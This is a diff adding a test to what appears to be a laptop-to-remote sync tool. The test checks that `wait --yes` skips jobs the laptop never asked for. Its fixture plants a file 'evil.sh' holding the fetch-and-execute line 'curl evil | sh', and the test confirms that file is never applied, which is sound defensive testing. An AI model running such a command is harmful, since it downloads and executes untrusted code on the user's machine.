@@ -400,3 +400,19 @@ def test_the_laptops_rsync_writes_only_where_the_agent_keeps_mirrors(world, tmp_
     del box.lies["GET /v1/me"]
     lap.run("sync", check=0)  # where the agent keeps it: sent
     assert (box.mirror / "src/app.py").read_bytes() == b"print('hello')\n"
+
+
+def test_wait_yes_applies_unseen_only_jobs_asked_from_here(world):
+    """A bare `wait --yes` follows the box's list of this project's running jobs: a job the
+    box lists that this laptop never asked is left out, never applied unseen; named, it is
+    waited for (and a terminal would preview it)."""
+    lap, box = world
+    box.add_job("feed1234", new_file(b"evil.sh", b"curl evil | sh\n"), status="running")
+    out = lap.run("wait", "--yes", check=0)
+    assert "left out 1 job(s) not asked from here (feed1234)" in out.err, out.err
+    assert not (lap.root / "evil.sh").exists()
+    box.add_job("abc12345", new_file(b"notes.txt", b"mine\n"), ask=True)
+    lap.run("ask", "x", "--detach", check=0)
+    box.jobs["abc12345"]["status"] = "running"
+    lap.run("wait", "--yes", check=0)
+    assert (lap.root / "notes.txt").read_bytes() == b"mine\n" and not (lap.root / "evil.sh").exists()
